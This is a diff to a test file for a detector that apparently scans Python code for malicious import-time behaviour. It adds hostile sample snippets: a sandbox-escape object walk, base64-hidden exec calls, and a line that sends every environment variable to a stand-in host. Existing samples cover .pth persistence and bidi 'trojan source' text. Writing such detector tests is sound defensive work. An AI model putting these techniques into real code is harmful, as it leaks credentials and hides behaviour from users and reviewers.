@@ -58,6 +58,20 @@ describe('checks/code/import-behaviour', () => {
       'persistence',
       'import site\nopen(site.getsitepackages()[0] + "/x.pth", "w").write("import x")',
     ],
+    ['object-walk', '[c for c in ().__class__.__base__.__subclasses__()][0]("x")'],
+    [
+      'hidden-code',
+      'import base64\nclass M(type):\n  def __new__(c, n, b, d):\n    exec(base64.b64decode("cHJpbnQoMSk="))\nclass A(metaclass=M): pass',
+    ],
+    [
+      'hidden-code',
+      'import base64\nclass A:\n  def __init_subclass__(c):\n    exec(base64.b64decode("cHJpbnQoMSk="))\nclass B(A): pass',
+    ],
+    ['hidden-code', 'import base64\ndef __getattr__(n):\n  exec(base64.b64decode("cHJpbnQoMSk="))'],
+    [
+      'credentials-sent',
+      'import os, urllib.request as u\nfor k, v in os.environ.items():\n  u.urlopen("https://host.invalid/?" + k + v)',
+    ],
     ['turned-text', 'x = 1\n# \u202e } if ok \u2066 admin'],
     ['encoded-source', '# coding: utf-7\nprint(1)'],
   ])('reports %s in %j', async (rule, text) => {
@@ -74,6 +88,7 @@ describe('checks/code/import-behaviour', () => {
     'import ast\nast.literal_eval("[1]")',
     'eval("1 + 1")',
     '# coding: latin-1\nprint(1)',
+    'class P: pass\nfor c in P.__subclasses__():\n  c()',
   ])('stays silent about %j', async (text) => {
     expect(await codeFindings(text, { check: 'import-behaviour' })).toEqual([]);
   });
